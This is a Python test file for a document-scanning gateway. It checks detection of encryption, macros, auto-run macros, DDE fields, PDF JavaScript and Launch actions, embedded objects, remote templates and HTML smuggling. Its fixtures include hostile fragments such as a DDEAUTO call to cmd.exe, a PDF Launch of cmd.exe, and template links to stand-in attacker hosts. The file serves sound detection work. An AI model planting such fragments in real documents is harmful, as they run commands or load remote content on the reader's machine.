"""Marks of macros, encryption and of what acts on its own in documents."""

from random import Random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.content.attachment import TRAITS
from gateway.content.documents import (
    has_macros,
    is_encrypted,
    is_macro_member,
    is_object_member,
    package_traits,
    page_traits,
    traits_of,
)
from gateway.content.types import TYPES, type_of
from tests.support.hostile import external_relationship, ole_of

# MS-XLS 2.4.21: BOF of version 0x0600; type, build, year, and two times four octets.
BOF = b"\x09\x08\x10\0\0\x06%s\xaa\x1f\xcd\x07\xc9\x80\x01\0\x06\x06\0\0"
FILEPASS = b"\x2f\0\x36\0\x01\0" + b"\0" * 52


def encrypted(octets: bytes) -> bool:
    return is_encrypted(octets, type_of(octets))


def macros(octets: bytes) -> bool:
    return has_macros(octets, type_of(octets))


def traits(octets: bytes) -> set[str]:
    return set(traits_of(octets, type_of(octets)))


def test_an_office_package_under_a_password_is_encrypted() -> None:
    assert encrypted(ole_of(("EncryptionInfo", "EncryptedPackage")))
    assert not encrypted(ole_of(("WordDocument",)))


def test_a_workbook_under_a_password_is_encrypted() -> None:
    assert encrypted(ole_of(("Workbook",), BOF % b"\x05\0" + FILEPASS))
    assert not encrypted(ole_of(("Workbook",), BOF % b"\x05\0" + b"\xe1\0\x02\0"))


@pytest.mark.parametrize(("flags", "is_so"), [(b"\0\x01", True), (b"\xff\xfe", False)])
def test_an_old_word_document_under_a_password_is_encrypted(flags: bytes, is_so: bool) -> None:
    fib = b"\xec\xa5\xc1\0" + b"\0" * 6 + flags
    assert encrypted(ole_of(("WordDocument",), fib)) == is_so


def test_a_pdf_with_a_password_is_encrypted() -> None:
    assert encrypted(b"%PDF-1.7\ntrailer<</Encrypt 5 0 R>>")
    assert not encrypted(b"%PDF-1.7\ntrailer<</Root 1 0 R>>")


@pytest.mark.parametrize("names", [("Macros",), ("VBA",), ("_VBA_PROJECT",), ("_VBA_PROJECT_CUR",)])
def test_macros_in_a_compound_file(names: tuple[str, ...]) -> None:
    assert macros(ole_of(("WordDocument", *names)))


def test_sheets_of_excel_4_macros() -> None:
    assert macros(ole_of(("Workbook",), BOF % b"\x40\0"))
    assert macros(ole_of(("Workbook",), b"\x85\0\x0e\0\x10\x20\0\0\x02\x01\x06\0Macro1"))
    assert not macros(ole_of(("Workbook",), BOF % b"\x05\0" + b"\x85\0\x0e\0\x10\x20\0\0\0\0\x06\0Sheet1"))


def test_documents_without_macros() -> None:
    assert not macros(ole_of(("WordDocument", "SummaryInformation")))
    assert not macros(b"hello _VBA_PROJECT")


@pytest.mark.parametrize("text", [b"Sub AutoOpen()", b"Sub auto_open", b"Document_Open", b"Workbook_Open"])
def test_macros_that_run_on_their_own(text: bytes) -> None:
    assert "autorun" in traits(ole_of(("WordDocument", "VBA"), text))
    assert "autorun" not in traits(ole_of(("WordDocument",), text))


@pytest.mark.parametrize(
    ("octets", "expected"),
    [
        (ole_of(("WordDocument", "\x01Ole10Native")), {"embedded_object"}),
        (ole_of(("WordDocument",), b'DDEAUTO c:\\windows\\cmd.exe "/k"'), {"dde"}),
        (b"%PDF-1.4 <</S/JavaScript/JS(app.alert)>>", {"script"}),
        (b"%PDF-1.4 <</S/J#61vaScript/J#53(app.alert)>>", {"script"}),
        (b"%PDF-1.4 <</S/Launch/F(cmd.exe)>>", {"launch"}),
        (b"%PDF-1.4 <</Names<</EmbeddedFiles 3 0 R>>>>", {"embedded_object"}),
        (b"%PDF-1.4 <</Type/Page>>", set()),
        (rb"{\rtf1{\object\objemb{\*\objdata 01}}}", {"embedded_object"}),
        (rb"{\rtf1{\field{\*\fldinst DDEAUTO cmd}}}", {"dde"}),
        (rb"{\rtf1{\*\template http://evil.example/t.dotm}}", {"external_template"}),
        (rb"{\rtf1 hello}", set()),
        (b"<html><p>hello", set()),
        (b"<html><script>x()</script>", {"script"}),
        (b"<html><body onload = 'x()'>", {"script"}),
        (b"<svg><a href='javascript:x'/></svg>", {"script"}),
        (b"<html><script>new Blob([atob('x')]); a.download='x'</script>", {"script", "html_smuggling"}),
        (b"<html><script>document.write(unescape('%3c'))</script>", {"script", "html_smuggling"}),
        ("<html><script>new Blob([atob('x')]);a.click()</script>".encode("utf-16"), {"script", "html_smuggling"}),
        (b"<html><a download='a.exe' href='data:application/octet-stream;base64,TVqQ'>", {"html_smuggling"}),
        (b"\x89PNG\r\n\x1a\n<script>", set()),
    ],
)
def test_traits_by_content(octets: bytes, expected: set[str]) -> None:
    assert traits(octets) == expected


def test_a_pdf_has_no_script_by_chance() -> None:
    """Three octets come up by themselves in a few megabytes of pictures."""
    picture = Random(7).randbytes(1000) + b"\x13/JS\xff\x80" + Random(8).randbytes(1000)
    assert traits(b"%PDF-1.4\n1 0 obj<</Length 2006>>stream\n" + picture + b"\nendstream") == set()


@pytest.mark.parametrize(
    ("name", "is_so"),
    [
        ("word/vbaProject.bin", True),
        ("WORD\\VBAPROJECT.BIN", True),
        ("vbaProject.bin", True),
        ("word/vbaData.xml", True),
        ("xl/macrosheets/sheet1.xml", True),
        ("xl/worksheets/sheet1.xml", False),
        ("word/document.xml", False),
    ],
)
def test_members_that_are_macros(name: str, is_so: bool) -> None:
    assert is_macro_member(name) == is_so


@pytest.mark.parametrize(
    ("name", "is_so"),
    [("word/embeddings/oleObject1.bin", True), ("xl/embeddings/a.exe", True), ("word/media/image1.png", False)],
)
def test_members_that_are_objects(name: str, is_so: bool) -> None:
    assert is_object_member(name) == is_so


RELATIONSHIP = external_relationship()


@pytest.mark.parametrize(
    "octets",
    [
        RELATIONSHIP,
        external_relationship("oleObject"),
        external_relationship("frame"),
        external_relationship(target="file:///\\\\evil\\t.dotm"),
        external_relationship(target="\\\\evil\\t.dotm"),
        external_relationship("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html"),
        RELATIONSHIP.replace(b'"', b"'"),
        RELATIONSHIP.replace(b"=", b" = "),
        RELATIONSHIP.replace(b"https:", b"&#104;ttps:"),
        RELATIONSHIP.replace(b"<Relationship ", b"<r:Relationship "),
        RELATIONSHIP.decode().encode("utf-16"),
    ],
)
def test_templates_from_elsewhere(octets: bytes) -> None:
    assert set(package_traits("word/_rels/settings.xml.rels", octets)) == {"external_template"}


@pytest.mark.parametrize(
    "octets",
    [
        external_relationship("hyperlink"),
        external_relationship("image"),
        RELATIONSHIP.replace(b' TargetMode="External"', b""),
        b"<Relationships/>",
    ],
)
def test_relationships_that_load_no_template(octets: bytes) -> None:
    assert set(package_traits("word/_rels/document.xml.rels", octets)) == set()


def test_members_that_act() -> None:
    assert set(package_traits("word/document.xml", b"<w:instrText>DDEAUTO cmd</w:instrText>")) == {"dde"}
    assert set(package_traits("word/vbaProject.bin", b"Sub AutoOpen")) == {"autorun"}
    assert set(package_traits("word/document.xml", b"<t>the DDE protocol</t>")) == set()


@given(st.binary(max_size=300), st.sampled_from(TYPES))
def test_any_octets_have_traits_that_are_known(octets: bytes, true_type: str) -> None:
    assert {*traits_of(octets, true_type), *page_traits(octets), *package_traits("a.rels", octets)} <= set(TRAITS)
    is_encrypted(octets, true_type)
    has_macros(octets, true_type)
